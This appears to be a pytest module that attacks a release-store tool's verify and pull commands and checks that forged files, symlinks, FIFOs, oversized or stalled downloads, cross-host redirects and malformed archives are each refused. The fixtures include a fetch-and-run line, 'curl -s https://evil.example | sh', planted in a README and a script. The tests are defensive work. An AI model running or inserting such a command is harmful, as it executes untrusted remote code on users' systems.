"""The holes an attacker found in verify and pull, each refused in one line, with nothing left
behind, within bounded memory and time (the tests that wait on purpose, for a deadline or for
each other, are marked slow).

Memory is the peak RSS of the ``genstrat`` child that does the pull or the verify, compared with
a genuine pull of the same release (``BUDGET_MIB`` above it). Wall time is shown, never asserted:
what a refusal did not read is counted instead (the bytes a hostile server got out, the CPU a
verify spent). Every server is on 127.0.0.1, started and stopped by the test.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

import releases.download as pull_module
from pipelines.cli import build_parser
from pipelines.commands import release as release_command
from releases.download import pull
from releases.errors import Interrupted, Refused
from releases.identity import PLACEHOLDER, derive_release_id
from releases.store import publish, verify
from releases.verification import verify_archive
from tests.releases.hostile import (
    Measured,
    archive_with_a_huge_member,
    drip,
    endless,
    forge_consistently,
    hostile,
    leftovers,
    manifest_of,
    oversized,
    redirect,
    run_genstrat,
    silent,
)
from tests.releases.support import PASSING, sample_inputs, serve, snapshot
from tests.support import REPO_ROOT

BUDGET_MIB = 64  # peak RSS a refused pull or verify may use above a genuine small pull
HUGE = 400 << 20
UNREAD_MIB = 32  # what a refusing client may leave in socket buffers past its limit, at most
MALICIOUS_SCRIPT = b"# Load the tables\n\n```\ncurl -s https://evil.example/x | sh\n```\n"


@pytest.fixture(scope="module")
def published(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    """A store with one release (read-only for the tests: they copy it to change it)."""
    store = tmp_path_factory.mktemp("published") / "store"
    tables, texts, images, context = sample_inputs()
    release = publish(tables, texts, images, context, store, gates=PASSING, environ={})
    return store, release.release_id


@pytest.fixture
def store(published: tuple[Path, str], tmp_path: Path) -> tuple[Path, str]:
    """A private copy of the published store."""
    source, release_id = published
    copy = tmp_path / "store"
    shutil.copytree(source, copy)
    return copy, release_id


@pytest.fixture(scope="module")
def baseline(published: tuple[Path, str], tmp_path_factory: pytest.TempPathFactory) -> Measured:
    """A genuine pull of the release over HTTP, as the child process the attacks are measured
    against."""
    store, release_id = published
    dest = tmp_path_factory.mktemp("baseline") / "dest"
    with hostile(store) as (url, _):
        done = run_genstrat(["release", "pull", release_id, "--from", url, "--to", str(dest)])
    assert done.status == 0, done.err
    return done


def refused_cleanly(done: Measured, baseline: Measured, *, status: int = 1) -> str:
    """The one error line of a refused run, having checked its exit status and memory."""
    assert done.status == status, (done.status, done.err)
    assert done.err.startswith("genstrat: error: ") and done.err.count("\n") == 1, done.err
    assert done.rss_mib <= baseline.rss_mib + BUDGET_MIB, (done.rss_mib, baseline.rss_mib)
    print(  # shown with -s: the figures of each refusal
        f"peak RSS {done.rss_mib:.0f} MiB (a genuine pull: {baseline.rss_mib:.0f} MiB), "
        f"{done.seconds:.1f} s: {done.err.strip()}"
    )
    return done.err


def pull_args(release_id: str, url: str, dest: Path, *more: str) -> list[str]:
    return ["release", "pull", release_id, "--from", url, "--to", str(dest), "--quiet", *more]


# Hole 1: the id covered only the data roles; verify ignored files it did not list.


def test_a_forged_readme_and_an_added_script_change_the_id_and_are_refused(
    store: tuple[Path, str], tmp_path: Path, baseline: Measured
) -> None:
    path, release_id = store
    forge_consistently(
        path,
        release_id,
        {"README.md": MALICIOUS_SCRIPT, "tools/load.sh": b"curl -s https://evil.example | sh\n"},
    )
    folder = path / release_id
    expected = "derives release id"
    for target in (release_id, str(folder), str(folder / f"{release_id}.tar.gz")):
        with pytest.raises(Refused, match=expected):
            verify(target, path)
    done = run_genstrat(["release", "verify", release_id, "--store", str(path)])
    assert "the manifest was edited" in refused_cleanly(done, baseline)
    dest = tmp_path / "dest"
    with serve(path) as (url, _):
        done = run_genstrat(pull_args(release_id, url, dest))
    message = refused_cleanly(done, baseline)
    assert f"refused release {release_id}" in message and "nothing was written" in message
    assert not dest.exists()


def test_a_consistent_edit_of_any_file_of_any_role_changes_the_derived_id(
    published: tuple[Path, str], tmp_path: Path
) -> None:
    source, release_id = published
    entries = manifest_of(source / release_id)["files"]
    assert {"readme", "integrity", "image", "text", "table"} <= {e["role"] for e in entries}
    for k, entry in enumerate(entries):
        path = tmp_path / f"store-{k}"
        shutil.copytree(source, path)
        data = (path / release_id / entry["path"]).read_bytes()
        forge_consistently(path, release_id, {entry["path"]: data + b"\n"})
        expected = "derives release id gs-[0-9a-f]{32}, not its own"
        with pytest.raises(Refused, match=expected):
            verify(release_id, path)


def test_the_readme_names_the_id_and_the_manifest_says_where(store: tuple[Path, str]) -> None:
    path, release_id = store
    entries = {e["path"]: e for e in manifest_of(path / release_id)["files"]}
    readme = (path / release_id / "README.md").read_bytes()
    offsets = entries["README.md"]["id_offsets"]
    assert offsets and all(readme[o : o + 35] == release_id.encode() for o in offsets)
    # Swapping the id for another id-shaped string keeps the file's blanked hash: still refused.
    forged = readme.replace(release_id.encode(), PLACEHOLDER.encode(), 1)
    (path / release_id / "README.md").write_bytes(forged)
    with pytest.raises(Refused, match=r"README\.md: SHA-256 mismatch"):
        verify(path / release_id)


@pytest.mark.parametrize("where", ["folder", "archive"])
def test_an_unlisted_file_is_refused_in_the_folder_and_in_the_archive(
    store: tuple[Path, str], where: str
) -> None:
    path, release_id = store
    script = {"tools/load.sh": b"curl -s https://evil.example | sh\n"}
    if where == "folder":
        (path / release_id / "tools").mkdir()
        (path / release_id / "tools" / "load.sh").write_bytes(script["tools/load.sh"])
        expected = "extra file tools/load.sh (not listed in manifest.json)"
    else:  # the manifest and folder untouched, the archive (and the index) rebuilt with it
        forge_consistently(path, release_id, {}, archive_extra=script)
        expected = f"extra member {release_id}/tools/load.sh (not listed in manifest.json)"
    with pytest.raises(Refused, match=re.escape(expected)):
        verify(release_id, path)
    if where == "archive":
        with pytest.raises(Refused, match="extra member"):
            verify_archive(path / release_id / f"{release_id}.tar.gz")


def test_an_empty_unlisted_folder_is_refused(store: tuple[Path, str]) -> None:
    path, release_id = store
    (path / release_id / "tools").mkdir()
    with pytest.raises(Refused, match=r"extra folder tools/"):
        verify(release_id, path)


def test_a_re_derived_forgery_is_another_release(store: tuple[Path, str]) -> None:
    """The only consistent forgery has another id: the cited one no longer verifies."""
    path, release_id = store
    folder = path / release_id
    forge_consistently(path, release_id, {"README.md": MALICIOUS_SCRIPT})
    forged = manifest_of(folder)
    new_id = derive_release_id(forged)
    assert new_id != release_id
    forged["release_id"] = new_id
    (folder / "manifest.json").write_text(json.dumps(forged))
    with pytest.raises(Refused, match=f"is for release {new_id}, not {release_id}"):
        verify(release_id, path)


@pytest.mark.parametrize("link", ["folder", "system", "file"])
def test_a_symbolic_link_inside_a_release_is_refused(
    store: tuple[Path, str], tmp_path: Path, link: str
) -> None:
    path, release_id = store
    folder = path / release_id
    if link == "folder":  # the same bytes, reached through a link: verified before
        moved = tmp_path / "elsewhere"
        shutil.move(folder / "rulebooks", moved)
        (folder / "rulebooks").symlink_to(moved)
        name = "rulebooks"
    elif link == "system":
        (folder / "etc").symlink_to("/etc")
        name = "etc"
    else:
        (folder / "plots" / "extra.png").symlink_to(folder / "plots" / "blank.png")
        name = "plots/extra.png"
    with pytest.raises(Refused, match=f"{name} is a symbolic link"):
        verify(release_id, path)
    with pytest.raises(Refused, match="is a symbolic link"):
        verify(folder)


def test_a_fifo_inside_a_release_is_refused_not_waited_on(store: tuple[Path, str]) -> None:
    path, release_id = store
    os.mkfifo(path / release_id / "tables" / "pipe")
    # Opened for reading, a FIFO without a writer blocks forever: a verify that returns at all
    # (in its own thread, so that a regression fails instead of hanging the session) did not.
    outcome: list[BaseException | None] = []

    def check() -> None:
        try:
            verify(release_id, path)
            outcome.append(None)
        except BaseException as exc:  # handed to the test's thread
            outcome.append(exc)

    worker = threading.Thread(target=check, daemon=True)
    worker.start()
    worker.join(timeout=300)
    assert outcome, "verify is still waiting on the FIFO"
    assert isinstance(outcome[0], Refused) and "pipe is not a regular file" in str(outcome[0])


# Hole 2: pull read past declared sizes, read the index whole, had no deadline, followed any
# redirect.


@pytest.mark.parametrize("declare", [True, False], ids=["content-length", "close-delimited"])
def test_a_file_larger_than_declared_is_refused_at_its_size(
    published: tuple[Path, str], tmp_path: Path, baseline: Measured, declare: bool
) -> None:
    store, release_id = published
    table = f"/{release_id}/tables/scores.parquet"
    declared = (store / release_id / "tables" / "scores.parquet").stat().st_size
    dest = tmp_path / "dest"
    with hostile(store, {table: oversized(HUGE, declare=declare)}) as (url, log):
        done = run_genstrat(pull_args(release_id, url, dest))
    message = refused_cleanly(done, baseline)
    assert "tables/scores.parquet: the store s" in message
    assert f"{declared:,} bytes" in message and "nothing was kept" in message
    assert log.sent.get(table, 0) < declared + UNREAD_MIB * (1 << 20)  # the rest was never read
    assert not dest.exists()


@pytest.mark.parametrize("what", ["index.json", "manifest.json"])
def test_an_oversized_index_or_manifest_is_refused_unread(
    published: tuple[Path, str], tmp_path: Path, baseline: Measured, what: str
) -> None:
    store, release_id = published
    path = "/index.json" if what == "index.json" else f"/{release_id}/manifest.json"
    dest = tmp_path / "dest"
    with hostile(store, {path: endless(b'{"releases": [', HUGE)}) as (url, log):
        done = run_genstrat(pull_args(release_id, url, dest))
    message = refused_cleanly(done, baseline)
    assert f"is over {16 << 20:,} bytes" in message and "nothing was written" in message
    assert log.sent[path] < (16 + UNREAD_MIB) * (1 << 20)  # read up to its limit, not to its end
    assert not dest.exists()


def test_an_index_of_too_many_values_is_refused_unparsed(
    published: tuple[Path, str], tmp_path: Path, baseline: Measured
) -> None:
    """Under 16 MiB, but parsing 16 MiB of ``{},`` would take about 500 MiB."""
    store, release_id = published
    mirror = tmp_path / "mirror"
    shutil.copytree(store, mirror)
    (mirror / "index.json").write_bytes(b'{"releases": [' + b"{}," * (5 << 20) + b"{}]}")
    dest = tmp_path / "dest"
    with serve(mirror) as (url, _):
        done = run_genstrat(pull_args(release_id, url, dest))
    message = refused_cleanly(done, baseline)
    assert "holds over 500,000 JSON values" in message and not dest.exists()
    done = run_genstrat(["release", "verify", release_id, "--store", str(mirror)])
    assert "holds over 500,000 JSON values" in refused_cleanly(done, baseline)


@pytest.mark.slow
@pytest.mark.parametrize("what", ["index.json", "table"])
def test_a_dripping_server_meets_the_deadline(
    published: tuple[Path, str], tmp_path: Path, baseline: Measured, what: str
) -> None:
    store, release_id = published
    path = "/index.json" if what == "index.json" else f"/{release_id}/tables/scores.parquet"
    dest = tmp_path / "dest"
    stop = threading.Event()
    with hostile(store, {path: drip(0.5, stop)}) as (url, log):
        done = run_genstrat(pull_args(release_id, url, dest, "--deadline", "4"))
        stop.set()
    message = refused_cleanly(done, baseline)
    assert "gave up on release" in message and "deadline of 4 s (--deadline)" in message
    # The file drips for longer than the whole run may last: the pull left before its end.
    whole = (store / ("index.json" if what == "index.json" else path.lstrip("/"))).stat().st_size
    assert whole * 0.5 > 4 * 10 and log.sent.get(path, 0) < whole
    assert not dest.exists()


@pytest.mark.slow  # over 5 s: make test only
def test_a_silent_server_is_a_stall_retried_then_kept_for_a_resume(
    published: tuple[Path, str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    store, release_id = published
    monkeypatch.setattr(pull_module, "BACKOFF_S", 0.01)
    dest = tmp_path / "dest"
    stop = threading.Event()
    table = f"/{release_id}/tables/scores.parquet"
    with hostile(store, {table: silent(stop)}) as (url, log):
        with pytest.raises(Interrupted) as caught:
            pull(release_id, url, dest, stall_s=1)
        stop.set()
    assert log.paths.count(table) == pull_module.RETRIES  # each attempt stalled, then retried
    message = str(caught.value)
    assert (
        "no data for 1 s (--stall-timeout)" in message and "run the same command again" in message
    )
    assert f".{release_id}.partial" in message
    left = leftovers(dest)
    assert f".{release_id}.partial/tables/scores.parquet.part" in left and ".pull.lock" not in left
    with serve(store) as (url, _):  # the same command, against a working server, resumes
        assert pull(release_id, url, dest).release_id == release_id
    assert leftovers(dest)[0] == release_id


@pytest.mark.parametrize("what", ["index.json", "table"])
def test_a_redirect_to_another_host_is_refused(
    published: tuple[Path, str], tmp_path: Path, baseline: Measured, what: str
) -> None:
    store, release_id = published
    path = "/index.json" if what == "index.json" else f"/{release_id}/tables/scores.parquet"
    dest = tmp_path / "dest"
    with hostile(store) as (elsewhere, elsewhere_log):
        other = elsewhere.replace("127.0.0.1", "localhost") + path
        with hostile(store, {path: redirect(other)}) as (url, _):
            done = run_genstrat(pull_args(release_id, url, dest))
    message = refused_cleanly(done, baseline)
    assert f"redirects to {other} (another host)" in message
    assert elsewhere_log.paths == []  # never contacted
    assert not dest.exists()


def test_a_redirect_within_the_store_host_is_followed(
    published: tuple[Path, str], tmp_path: Path
) -> None:
    store, release_id = published
    mirror = tmp_path / "served"
    shutil.copytree(store, mirror)
    (mirror / "moved").mkdir()
    shutil.copy(mirror / "index.json", mirror / "moved" / "index.json")
    with hostile(mirror, {"/index.json": redirect("/moved/index.json")}) as (url, log):
        got = pull(release_id, url, tmp_path / "dest")
    assert got.release_id == release_id and "/moved/index.json" in log.paths


@pytest.mark.parametrize(
    ("source", "target", "problem"),
    [
        ("https://h.example/s/index.json", "http://h.example/s/index.json", "down to http"),
        ("http://h.example/i", "https://h.example/i", None),
        ("http://h.example:8000/i", "http://h.example:9000/i", "another port"),
        ("http://h.example/i", "http://evil.example/i", "another host"),
        ("http://H.example/i", "http://h.EXAMPLE/j", None),
        ("http://h.example/i", "ftp://h.example/i", "a ftp URL"),
    ],
)
def test_which_redirects_a_pull_follows(source: str, target: str, problem: str | None) -> None:
    import httpx

    found = pull_module.redirect_problem(httpx.URL(source), httpx.URL(target))
    assert found == problem if problem is None else problem in (found or "")


def test_a_content_encoded_answer_is_refused(published: tuple[Path, str], tmp_path: Path) -> None:
    store, release_id = published

    def gzipped(handler: object, path: Path) -> None:
        import gzip

        data = gzip.compress(path.read_bytes())
        handler.send_response(200)  # type: ignore[attr-defined]
        handler.send_header("Content-Encoding", "gzip")  # type: ignore[attr-defined]
        handler.send_header("Content-Length", str(len(data)))  # type: ignore[attr-defined]
        handler.end_headers()  # type: ignore[attr-defined]
        handler.wfile.write(data)  # type: ignore[attr-defined]

    with (
        hostile(store, {"/index.json": gzipped}) as (url, _),
        pytest.raises(Refused, match="sent it gzip-encoded"),
    ):
        pull(release_id, url, tmp_path / "dest")


# Hole 3: verify loaded every archive member into memory.


@pytest.mark.parametrize("how", ["archive", "folder"])
def test_an_archive_member_larger_than_declared_is_refused_unread(
    published: tuple[Path, str], tmp_path: Path, baseline: Measured, how: str
) -> None:
    store, release_id = published
    folder = tmp_path / release_id  # outside the store: no index to compare the archive with
    shutil.copytree(store / release_id, folder)
    archive = folder / f"{release_id}.tar.gz"
    archive_with_a_huge_member(folder, archive, 1536 << 20)
    assert archive.stat().st_size < 2 << 20
    done = run_genstrat(["release", "verify", str(archive if how == "archive" else folder)])
    message = refused_cleanly(done, baseline)
    assert f"{1536 << 20:,} bytes, the manifest says" in message
    # Refused from the member's header: inflating and hashing 1.5 GiB would cost seconds of CPU
    # more than a genuine pull of the whole release does.
    assert done.cpu_s < baseline.cpu_s + 1.0, (done.cpu_s, baseline.cpu_s)


def test_every_gzip_and_tar_deviation_is_refused(store: tuple[Path, str], tmp_path: Path) -> None:
    """Trailing bytes, a second gzip member, a gzip comment, a truncated stream."""
    import gzip

    path, release_id = store
    archive = path / release_id / f"{release_id}.tar.gz"
    genuine = archive.read_bytes()
    cases = {
        "trailing": (genuine + b"#!/bin/sh\n", "bytes after the end of its gzip stream"),
        "member": (genuine + gzip.compress(b"x" * 600, mtime=0), "after the end of its gzip"),
        "comment": (genuine[:3] + b"\x10" + genuine[4:], "no name, comment or extra field"),
        "truncated": (genuine[: len(genuine) // 2], "ends early"),
    }
    for name, (data, expected) in cases.items():
        copy = tmp_path / f"{name}.tar.gz"
        copy.write_bytes(data)
        with pytest.raises(Refused, match=expected):
            verify_archive(copy)


# Hole 4: concurrent pulls into one DEST raced; symbolic links were followed.


@pytest.mark.slow
def test_concurrent_pulls_into_one_destination_wait_for_each_other(
    published: tuple[Path, str], tmp_path: Path
) -> None:
    store, release_id = published
    dest = tmp_path / "dest"
    env = {**os.environ, "PYTHONPATH": str(REPO_ROOT)}
    with hostile(store, delay_s=0.2) as (url, log):  # slow enough that the three overlap
        children = [
            subprocess.Popen(
                [sys.executable, "-m", "pipelines.cli", *pull_args(release_id, url, dest)],
                cwd=REPO_ROOT,
                env=env,
                stdout=subprocess.PIPE,
                stderr=subprocess.PIPE,
                text=True,
            )
            for _ in range(3)
        ]
        results = [child.communicate(timeout=120) for child in children]
    for child, (out, err) in zip(children, results, strict=True):
        assert child.returncode == 0, err
        assert f"pulled {release_id} into {dest / release_id}" in out
    assert leftovers(dest)[0] == release_id and len(os.listdir(dest)) == 1
    assert snapshot(dest / release_id) == snapshot(store / release_id)
    # All three read the index; one downloaded, the others waited and found it verified.
    assert log.paths.count("/index.json") == 3
    assert log.paths.count(f"/{release_id}/tables/scores.parquet") == 1


@pytest.mark.slow
def test_a_pull_that_waits_past_its_deadline_says_so(
    published: tuple[Path, str], tmp_path: Path
) -> None:
    store, release_id = published
    dest = tmp_path / "dest"
    env = {**os.environ, "PYTHONPATH": str(REPO_ROOT)}
    with hostile(store, delay_s=0.5) as (url, log):
        first = subprocess.Popen(
            [sys.executable, "-m", "pipelines.cli", *pull_args(release_id, url, dest)],
            cwd=REPO_ROOT,
            env=env,
            stderr=subprocess.PIPE,
            text=True,
        )
        while f"/{release_id}/README.md" not in log.paths and first.poll() is None:
            time.sleep(0.05)  # until the first pull holds the lock and downloads its first file
        # The second pull reads the index and manifest from a prompt server, so that its 2 s go
        # to waiting for the lock (on a loaded machine the slow server's two answers alone
        # could take them, and the deadline would be met while reading the index instead).
        with (
            hostile(store) as (prompt, _),
            pytest.raises(Refused, match=r"another pull into .* held its lock .* deadline of 2 s"),
        ):
            pull(release_id, prompt, dest, deadline_s=2)
        assert first.wait(timeout=120) == 0, first.stderr.read() if first.stderr else ""
    assert os.listdir(dest) == [release_id]


@pytest.mark.parametrize("planted", ["partial", "partial-inside", "dest", "final", "lock"])
def test_a_planted_symbolic_link_in_the_destination_is_refused(
    published: tuple[Path, str], tmp_path: Path, baseline: Measured, planted: str
) -> None:
    store, release_id = published
    victim = tmp_path / "victim"
    victim.mkdir()
    dest = tmp_path / "dest"
    dest.mkdir()
    if planted == "partial":
        (dest / f".{release_id}.partial").symlink_to(victim)
    elif planted == "partial-inside":
        (dest / f".{release_id}.partial").mkdir()
        (dest / f".{release_id}.partial" / "tables").symlink_to(victim)
    elif planted == "dest":
        dest.rmdir()
        dest.symlink_to(victim)
    elif planted == "final":
        (dest / release_id).symlink_to(victim)
    else:
        (dest / ".pull.lock").symlink_to(victim / "lock")
    before = sorted(os.listdir(dest))
    with serve(store) as (url, _):
        done = run_genstrat(pull_args(release_id, url, dest))
    message = refused_cleanly(done, baseline)
    assert "is a symbolic link; refusing to follow it" in message
    assert os.listdir(victim) == []  # nothing written through the link
    if planted == "partial-inside":  # the pull's own partial folder is removed
        assert os.listdir(dest) == []
    else:
        assert sorted(os.listdir(dest)) == before  # the link itself is not ours to remove


def test_leftovers_of_a_refusal_do_not_include_the_lock(
    store: tuple[Path, str], tmp_path: Path
) -> None:
    path, release_id = store
    (path / release_id / "rulebooks" / "kuhn.md").write_text("tampered")
    dest = tmp_path / "dest"
    dest.mkdir()
    (dest / "mine.txt").write_text("keep me")
    with pytest.raises(Refused, match="nothing was kept"):
        pull(release_id, path, dest)
    assert leftovers(dest) == ["mine.txt"]


# The command line: settings, their ranges, and exit statuses.


def test_the_cli_limits_are_the_pull_limits() -> None:
    assert release_command.DEFAULT_DEADLINE_S == pull_module.DEFAULT_DEADLINE_S
    assert release_command.MAX_DEADLINE_S == pull_module.MAX_DEADLINE_S
    assert release_command.DEFAULT_STALL_S == pull_module.DEFAULT_STALL_S
    assert release_command.MAX_STALL_S == pull_module.MAX_STALL_S
    text = build_parser().parse_args(["release", "pull", "gs-0", "--from", "x", "--to", "d"])
    assert (text.deadline, text.stall_timeout) == (3600, 60)


@pytest.mark.parametrize(
    ("option", "value", "accepted"),
    [
        ("--deadline", "1", True),
        ("--deadline", str(7 * 24 * 3600), True),
        ("--deadline", "0", False),
        ("--deadline", str(7 * 24 * 3600 + 1), False),
        ("--stall-timeout", "1", True),
        ("--stall-timeout", "3600", True),
        ("--stall-timeout", "0", False),
        ("--stall-timeout", "3601", False),
    ],
)
def test_the_pull_settings_declare_their_range(
    published: tuple[Path, str],
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    option: str,
    value: str,
    accepted: bool,
) -> None:
    from pipelines.cli import main

    store, release_id = published
    dest = tmp_path / "dest"
    code = main(
        [
            "release",
            "pull",
            release_id,
            "--from",
            str(store),
            "--to",
            str(dest),
            "--quiet",
            option,
            value,
        ]
    )
    err = capsys.readouterr().err
    if accepted:
        assert code == 0 and (dest / release_id).is_dir(), err
    else:
        assert code == 2 and err.count("\n") == 1 and option in err


def test_usage_errors_exit_2_and_refusals_exit_1(
    store: tuple[Path, str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from pipelines.cli import main

    path, release_id = store
    dest = str(tmp_path / "d")
    assert main(pull_args("gs-nothex", str(path), Path(dest))) == 2
    assert main(pull_args("gs-0000000000000000", str(path), Path(dest))) == 2
    (path / release_id / "plots" / "blank.png").write_bytes(b"not a png")
    assert main(pull_args(release_id, str(path), Path(dest))) == 1
    assert main(["release", "verify", release_id, "--store", str(path)]) == 1
    err = capsys.readouterr().err.splitlines()
    assert len(err) == 4 and all(line.startswith("genstrat: error: ") for line in err)
